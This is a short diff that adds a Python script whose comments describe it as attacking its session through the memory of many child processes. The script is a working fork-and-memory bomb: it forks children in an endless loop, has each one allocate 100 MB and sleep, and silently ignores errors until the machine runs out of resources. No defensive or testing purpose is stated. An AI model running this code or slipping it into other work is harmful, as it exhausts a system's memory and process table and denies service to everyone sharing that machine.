@@ -1,0 +1,10 @@
+# attacks its session by memory of many children
+# ends: variously
+import os, time
+while True:
+    try:
+        if os.fork() == 0:
+            x = b'x' * (100 << 20)
+            time.sleep(100)
+            os._exit(0)
+    except (OSError, MemoryError): pass
